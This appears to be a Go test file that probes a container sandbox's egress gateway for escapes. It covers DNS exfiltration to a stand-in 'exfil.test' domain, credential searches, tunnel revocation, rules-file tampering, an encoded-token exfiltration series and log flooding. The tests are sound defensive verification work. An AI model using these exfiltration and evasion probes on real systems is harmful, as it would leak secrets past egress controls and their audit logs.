	// Gone before the bottle network's own cleanup, which it would block.
	t.Cleanup(func() {
		r.cli.ContainerRemove(context.Background(), created.ID, container.RemoveOptions{Force: true})
	})
	if err := r.cli.ContainerStart(ctx, created.ID, container.StartOptions{}); err != nil {
		t.Fatal(err)
	}
	return created.ID
}

// agentResolver: a lookup through the resolver an agent uses (the engine's
// embedded one, on the bottle network) never reaches a DNS server, even
// one set as its upstream: the recorder is that upstream here, so a lookup
// forwarded (NXDOMAIN looks just like a timeout to nslookup) is caught.
func (r *escapeRig) agentResolver(t *testing.T) {
	secret := "s3cr3t" + randomHex(6)
	in := r.twin(t, "bf-"+r.lineage[:8]+"-alpha", "in")
	out := r.twin(t, r.outside, "out")
	res := r.probeAll(t, in, []probe{
		{"lookup", fmt.Sprintf("timeout 4 nslookup %s-i.exfil.test", secret)},
		{"single label", fmt.Sprintf("timeout 4 nslookup %s-j", secret)},
	})
	wantBlocked(t, res, "lookup", "")
	// Control: the same container on a network that is not internal
	// reaches the recorder through the same embedded resolver.
	control := "ctl" + randomHex(6) + ".exfil.test"
	r.execIn(t, out, "timeout 4 nslookup "+control)
	r.waitLog(t, r.recorderID, control, 10*time.Second)
	if log := r.logs(t, r.recorderID); strings.Contains(log, secret) {
		t.Errorf("a lookup from the bottle network reached the recording DNS server:\n%s", log)
	}
	t.Logf("probes: %v", res)
}

// revokeAndNewNetwork: a network made after the gateway (here a plain
// bridge network, whose gateway address is a new address of the docker
// host, where the host service answers) is forbidden to it once an apply
// updates the gateway; and the apply that removes the rule behind an open
// tunnel closes that tunnel and says so.
func (r *escapeRig) revokeAndNewNetwork(t *testing.T) {
	ctx := context.Background()
	newNet, _ := dockertest.TestNetwork(t, r.cli, map[string]string{escapeLabel: r.run})
	ninfo, err := r.cli.NetworkInspect(ctx, newNet, network.InspectOptions{})
	if err != nil {
		t.Fatal(err)
	}
	var newGW netip.Addr
	for _, c := range ninfo.IPAM.Config {
		if newGW, err = netip.ParseAddr(c.Gateway); err != nil {
			// The engine takes the subnet's first address when none is named.
			if p, err := netip.ParsePrefix(c.Subnet); err == nil {
				newGW = p.Masked().Addr().Next()
			}
		}
	}
	if !newGW.IsValid() {
		t.Fatalf("the new network has no gateway address: %+v", ninfo.IPAM)
	}
	// Control: the host service answers on the new address.
	res := r.probeAll(t, r.allowedID, []probe{{"host service on the new network's address", "timeout 3 wget -qO- " + r.hostURL(newGW)}})
	wantContent(t, res, "host service on the new network's address", "host-service-secret")

	// A tunnel to the allowed host, held open.
	r.abuseTool(t)
	r.execIn(t, r.alpha.id, fmt.Sprintf(`rm -f /tmp/tun.out; /tmp/gatewayabuse -mode tunnel -addr %s:3128 -connect allowed-host:8080 -hold 120s >/tmp/tun.out 2>&1 </dev/null &`, r.alphaGW.name))
	deadline := time.Now().Add(10 * time.Second)
	for !strings.Contains(r.execIn(t, r.alpha.id, "cat /tmp/tun.out").out, " 200 ") {
		if time.Now().After(deadline) {
			t.Fatalf("control: the tunnel did not open: %q", r.execIn(t, r.alpha.id, "cat /tmp/tun.out").out)
		}
		time.Sleep(100 * time.Millisecond)
	}

	// The allowlist without allowed-host:8080, with a rule naming the new
	// address on the host service's port.
	var allow []string
	for _, a := range r.allowlist(fmt.Sprintf("%s:%d", newGW, r.host.port)) {
		if a != "allowed-host:8080" {
			allow = append(allow, a)
		}
	}
	r.writeConfig(allow)
	apply := bottlefile(t, r.dir, "apply", "-auto-approve")
	if apply.code != 0 {
		t.Fatalf("apply: %s", apply)
	}
	if want := "agent.alpha.gateway: closed 1 open tunnel the new allowlist no longer allows"; !strings.Contains(apply.stdout, want) {
		t.Errorf("apply does not say %q:\n%s", want, apply.stdout)
	}
	deadline = time.Now().Add(10 * time.Second)
	for !strings.Contains(r.execIn(t, r.alpha.id, "cat /tmp/tun.out").out, "closed") {
		if time.Now().After(deadline) {
			t.Errorf("the tunnel whose rule was removed is still open")
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	res = r.probeAll(t, r.alpha.id, []probe{
		{"via proxy", viaProxy(r.hostURL(newGW))},
		{"CONNECT", connect(r.alphaGW.name, netip.AddrPortFrom(newGW, uint16(r.host.port)).String())},
		{"allowed host, its rule removed", connect(r.alphaGW.name, "allowed-host:8080")},
	})
	want403(t, res, "via proxy", "host-service-secret")
	want403(t, res, "CONNECT", "host-service-secret")
	if got := res["CONNECT"].out; !strings.Contains(got, "a forbidden address") {
		t.Errorf("CONNECT to the new network's address: want it refused as forbidden, got %q", got)
	}
	want403(t, res, "allowed host, its rule removed", "allowed-host-content")
	// The state's other gateway, not updated itself, was given the new
	// address too.
	r.waitLog(t, r.betaGW.id, `"`+newGW.String()+`/32"`, 10*time.Second)
}

// credentialNeverInAgent: alpha holds its credential's placeholder, never
// its value (in its inspect, its environment, anything it can read), and
// the placeholder sent through the proxy to another allowed host is
// refused and logged.
func (r *escapeRig) credentialNeverInAgent(t *testing.T) {
	_, raw, err := r.cli.ContainerInspectWithRaw(context.Background(), r.alpha.id, false)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(raw), r.credential) {
		t.Errorf("alpha's docker inspect holds the credential")
	}
	// Every file alpha can read but /proc, /sys and /dev, searched for the
	// value; a control file holds a marker the same search must find.
	// Each file once, by find -type f: busybox's grep -r follows the
	// image's hundreds of applet symlinks and reads the 2 MB busybox
	// through each (over a minute on fuse-overlayfs).
	marker := "escape-control-" + randomHex(6)
	env := r.execIn(t, r.alpha.id, "env; echo "+marker+" > /tmp/escape-control; for d in /*; do case $d in /proc|/sys|/dev) ;; *) find $d -type f -exec grep -sl -e "+shellQuote(r.credential)+" -e "+marker+" {} + ;; esac; done; true")
	if strings.Contains(env.out, r.credential) || strings.Count(env.out, "/tmp/escape-control") != 1 {
		t.Errorf("alpha can read the credential, or the search missed its control file:\n%s", env.out)
	}
	if !strings.Contains(env.out, "VAULT_TOKEN=bottlefile-placeholder-vault-") {
		t.Errorf("alpha's VAULT_TOKEN is not the placeholder:\n%s", env.out)
	}
	res := r.probeAll(t, r.alpha.id, []probe{{"placeholder to allowed-host", `timeout 5 wget -qO- --header "Authorization: Bearer $VAULT_TOKEN" http://allowed-host:8080/`}})
	want403(t, res, "placeholder to allowed-host", "allowed-host-content")
	if !r.waitLog(t, r.alphaGW.id, "an attempt to use the credential elsewhere", 10*time.Second) {
		t.Errorf("alpha's gateway did not log the attempt")
	}
	if strings.Contains(r.logs(t, r.alphaGW.id), r.credential) {
		t.Errorf("alpha's gateway logs hold the credential")
	}
}

// rulesFileTampering: under an operator egress policy, the gateway holds
// the policy as its ceiling, on its command line. A rules file replaced
// by hand inside alpha's gateway (docker cp, then SIGHUP, as the driver
// does) that opens a host outside the policy is refused by the gateway,
// which still refuses that host; the next plan shows the drift, and apply
// writes the rules again. One within the policy (narrower) is taken, and
// shown and restored the same way; so is a credentials file changed by
// hand.
func (r *escapeRig) rulesFileTampering(t *testing.T) {
	ctx := context.Background()
	allow := r.allowlist()
	policyPath := filepath.Join(t.TempDir(), "policy.hcl")
	list, _ := json.Marshal(allow)
	if err := os.WriteFile(policyPath, []byte("egress_ceiling = "+string(list)+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	env := []string{"BOTTLEFILE_POLICY=" + policyPath}
	run := func(args ...string) result {
		t.Helper()
		res := bottlefileEnv(t, r.dir, env, args...)
		if res.code != 0 {
			t.Fatalf("bottlefile %s: %s", strings.Join(args, " "), res)
		}
		return res
	}
	// The gateways take the policy as their ceiling: made again.
	r.writeConfig(allow)
	plan := run("plan")
	if !strings.Contains(plan.stdout, "# agent.alpha.gateway must be replaced") || !strings.Contains(plan.stdout, "# forces replacement") {
		t.Fatalf("plan under a new policy does not replace alpha's gateway for its ceiling:\n%s", plan.stdout)
	}
	run("apply", "-auto-approve")
	r.alphaGW = r.find(t, "agent.alpha.gateway")
	rulesFile := func(extra ...string) []byte {
		b, _ := json.Marshal(map[string]any{"agent": "agent.alpha", "allow": append(slices.Clone(allow), extra...)})
		return b
	}
	// tamperFile writes a file into the gateway's /etc/bottlefile as
	// docker cp does, and signals it as the driver does.
	tamperFile := func(name string, data []byte) {
		t.Helper()
		var buf bytes.Buffer
		tw := tar.NewWriter(&buf)
		tw.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: name, Mode: 0o644, Size: int64(len(data)), ModTime: time.Now()})
		tw.Write(data)
		tw.Close()
		if err := r.cli.CopyToContainer(ctx, r.alphaGW.id, "/etc/bottlefile", &buf, container.CopyToContainerOptions{}); err != nil {
			t.Fatal(err)
		}
		if err := r.cli.ContainerKill(ctx, r.alphaGW.id, "HUP"); err != nil {
			t.Fatal(err)
		}
	}
	tamper := func(data []byte) { tamperFile("rules.json", data) }
	// restoredWhat checks that plan shows the drift of what, that apply
	// writes it again in place, and that the plan after is empty.
	restoredWhat := func(when, what string) {
		t.Helper()
		plan := run("plan")
		for _, want := range []string{"# agent.alpha.gateway will be updated in place", "its " + what + " differ from what was applied (changed outside bottlefile)", "Plan: 0 to add, 1 to change, 0 to destroy."} {
			if !strings.Contains(plan.stdout, want) {
				t.Errorf("%s: the plan lacks %q:\n%s", when, want, plan.stdout)
			}
		}
		run("apply", "-auto-approve")
		if gw := r.find(t, "agent.alpha.gateway"); gw.id != r.alphaGW.id {
			t.Errorf("%s: the gateway was replaced, not restored in place", when)
		}
		if plan := run("plan"); !strings.Contains(plan.stdout, "No changes.") {
			t.Errorf("%s: plan after restoring:\n%s", when, plan.stdout)
		}
	}
	restored := func(when string) { restoredWhat(when, "rules") }
	probes := []probe{
		{"denied host by name", viaProxy("http://denied-host:8080/")},
		{"denied host by address", viaProxy(fmt.Sprintf("http://%s:8080/", r.deniedIP))},
		{"allowed host", viaProxy("http://allowed-host:8080/")},
	}

	// Widening beyond the policy: refused by the gateway.
	tamper(rulesFile("denied-host:8080", r.deniedIP.String()+":8080"))
	if !r.waitLog(t, r.alphaGW.id, "outside the gateway's egress ceiling", 10*time.Second) {
		t.Fatalf("the gateway did not refuse the widened rules file:\n%s", r.logs(t, r.alphaGW.id))
	}
	res := r.probeAll(t, r.alpha.id, probes)
	want403(t, res, "denied host by name", "denied-host-content")
	want403(t, res, "denied host by address", "denied-host-content")
	wantContent(t, res, "allowed host", "allowed-host-content")
	restored("after a widening rules file")

	// Narrowing within it: taken, and so in force until apply restores it.
	var narrow []string
	for _, a := range allow {
		if a != "allowed-host:8080" {
			narrow = append(narrow, a)
		}
	}
	b, _ := json.Marshal(map[string]any{"agent": "agent.alpha", "allow": narrow})
	tamper(b)
	deadline := time.Now().Add(10 * time.Second)
	for {
		res := r.probeAll(t, r.alpha.id, probes[2:])
		if strings.Contains(res["allowed host"].out, "403") {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the narrowed rules file was not taken: %q", res["allowed host"].out)
		}
		time.Sleep(200 * time.Millisecond)
	}
	restored("after a narrowing rules file")
	res = r.probeAll(t, r.alpha.id, probes[2:])
	wantContent(t, res, "allowed host", "allowed-host-content")

	// The credentials file replaced by hand (no credential to inject):
	// shown and written again the same way.
	tamperFile("credentials.json", []byte(`{"version":"by-hand","ca_cert":"","ca_key":"","credentials":[]}`))
	if !r.waitLog(t, r.alphaGW.id, `"by-hand"`, 10*time.Second) && !r.waitLog(t, r.alphaGW.id, "credentials-invalid", 5*time.Second) {
		t.Fatalf("the gateway did not read the credentials file:\n%s", r.logs(t, r.alphaGW.id))
	}
	restoredWhat("after a credentials file changed by hand", "credentials")
}

// --- Issue 25: placeholders in every form, and an audit trail floods
// cannot erase. ---

// placeholder is alpha's VAULT_TOKEN.
func (r *escapeRig) placeholder(t *testing.T) string {
	t.Helper()
	for _, line := range strings.Split(r.execIn(t, r.alpha.id, "env").out, "\n") {
		if v, ok := strings.CutPrefix(line, "VAULT_TOKEN="); ok {
			return strings.TrimSpace(v)
		}
	}
	t.Fatal("alpha has no VAULT_TOKEN")
	return ""
}

// placeholderEveryForm: alpha sends its placeholder to allowed-host (plain
// HTTP, which the gateway reads, by address) percent-encoded, upper-cased, in base64,
// split across two headers, and in a body: each is refused, logged as
// credential-elsewhere, and listed by egress denials; the same requests
// without it pass (the control).
func (r *escapeRig) placeholderEveryForm(t *testing.T) {
	p := r.placeholder(t)
	pct := ""
	for i := 0; i < len(p); i++ {
		pct += fmt.Sprintf("%%%02X", p[i])
	}
	b64 := base64.StdEncoding.EncodeToString([]byte("agent:" + p))
	// By address: subtest 16 takes allowed-host's name rule away.
	target := fmt.Sprintf("http://%s:8080/", r.allowedIP)
	wget := func(args string) string { return "timeout 5 wget -qO- " + args + " " + target }
	probes := []probe{
		{"control", wget("--header 'X-Note: nothing here'")},
		{"percent-encoded in the query", "timeout 5 wget -qO- '" + target + "?token=" + pct + "'"},
		{"percent-encoded header", wget("--header 'Cookie: t=" + strings.ToLower(pct) + "'")},
		{"upper case", wget("--header 'X-Token: " + strings.ToUpper(p) + "'")},
		{"base64", wget("--header 'Authorization: Basic " + b64 + "'")},
		{"split across two headers", wget("--header 'X-Part-One: " + p[:len(p)/2] + "' --header 'X-Part-Two: " + p[len(p)/2:] + "'")},
		{"in a body", wget("--post-data '{\"token\":\"" + p + "\"}'")},
		{"base64 in a body", wget("--post-data 'data=" + base64.StdEncoding.EncodeToString([]byte("{\"t\":\""+p+"\"}")) + "'")},
	}
	res := r.probeAll(t, r.alpha.id, probes)
	wantContent(t, res, "control", "allowed-host-content")
	for _, pr := range probes[1:] {
		want403(t, res, pr.name, "allowed-host-content")
	}
	// The engine copies a container's output to its log on its own time:
	// a refusal answered may not be in the log yet (CI saw it once).
	if n, log := r.waitLogCount(t, r.alphaGW.id, `"outcome":"credential-elsewhere"`, len(probes)-1, 10*time.Second); n < len(probes)-1 {
		t.Errorf("alpha's gateway logged %d credential-elsewhere refusals, want at least %d:\n%s", n, len(probes)-1, log)
	}
	denials := mustRun(t, r.dir, "egress", "denials")
	wantAll(t, "egress denials", denials.stdout, r.allowedIP.String()+":8080", "an attempt to use the credential elsewhere")
}

// allowedFlood: a refusal, then a flood of allowed requests from alpha
// past what the gateway's old log kept (a line a request, in the engine's
// json-file log of 3 files of 10 MiB, which loses a line after 20 to 30
// MiB more, as the line fell early or late in its file): egress denials
// still lists the refusal, and the flood added little to the log. The
// flood aims at 30 MiB worth of requests in under a minute and must reach
// 20 MiB worth (on a loaded machine it may not get all of it).
func (r *escapeRig) allowedFlood(t *testing.T) {
	r.abuseTool(t)
	sink := r.sinkIP.String() + ":9000"
	canary := "flood-canary-" + r.run + ".test:8080"
	res := r.probeAll(t, r.alpha.id, []probe{{"canary", viaProxy("http://" + canary + "/")}, {"sink", viaProxy("http://"+sink+"/") + "; echo sink-answered"}})
	want403(t, res, "canary", "content")
	if !r.waitLog(t, r.alphaGW.id, canary, 10*time.Second) || !r.waitLog(t, r.alphaGW.id, `"destination":"`+sink+`"`, 10*time.Second) {
		t.Fatalf("the canary's refusal or the sink's line is not in the log:\n%s", r.logs(t, r.alphaGW.id))
	}
	// What the old log held: 3 files of 10 MiB of json-file records, each
	// an allowed line like the sink's.
	var line string
	for _, l := range strings.Split(r.logs(t, r.alphaGW.id), "\n") {
		if strings.Contains(l, `"destination":"`+sink+`"`) && strings.Contains(l, `"outcome":"connected"`) {
			line = l
		}
	}
	record, _ := json.Marshal(struct {
		Log    string    `json:"log"`
		Stream string    `json:"stream"`
		Time   time.Time `json:"time"`
	}{line + "\n", "stdout", time.Now().UTC()})
	held, lost := 3*10<<20/(len(record)+1), 2*10<<20/(len(record)+1)
	t.Logf("an allowed line: %d bytes, %d as a json-file record: the old log lost a refusal after %d to %d of them", len(line), len(record)+1, lost, held)

	since := time.Now()
	s0 := r.gatewayStats(t)
	flood := r.abuse(t, "-mode", "allowed", "-connect", sink, "-workers", "128", "-n", strconv.Itoa(held+held/50), "-duration", "55s")
	took := time.Since(since)
	s1 := r.gatewayStats(t)
	time.Sleep(time.Second) // the engine writes the last lines
	rc, err := r.cli.ContainerLogs(context.Background(), r.alphaGW.id, container.LogsOptions{ShowStdout: true, ShowStderr: true, Since: since.UTC().Format(time.RFC3339Nano)})
	if err != nil {
		t.Fatal(err)
	}
	var added bytes.Buffer
	stdcopy.StdCopy(&added, &added, rc)
	rc.Close()
	cores := float64(s1.CPUStats.CPUUsage.TotalUsage-s0.CPUStats.CPUUsage.TotalUsage) / float64(took.Nanoseconds())
	t.Logf("allowed flood: %d requests, %d answered in %v (gateway %.2f cores); the log grew %d bytes in %d lines (a line a request: %d MiB)",
		flood.Requests, flood.Answers, took.Round(time.Millisecond), cores, added.Len(), strings.Count(added.String(), "\n"), flood.Answers*int64(len(record)+1)>>20)
	if flood.Answers < int64(lost) {
		t.Errorf("the flood got %d answers: fewer than the %d after which the old log could lose a refusal", flood.Answers, lost)
	}
	if added.Len() > 1<<20 {
		t.Errorf("the flood added %d bytes to the log, want at most 1 MiB", added.Len())
	}
	denials := mustRun(t, r.dir, "egress", "denials")
	wantAll(t, "egress denials after the flood", denials.stdout, canary)
}
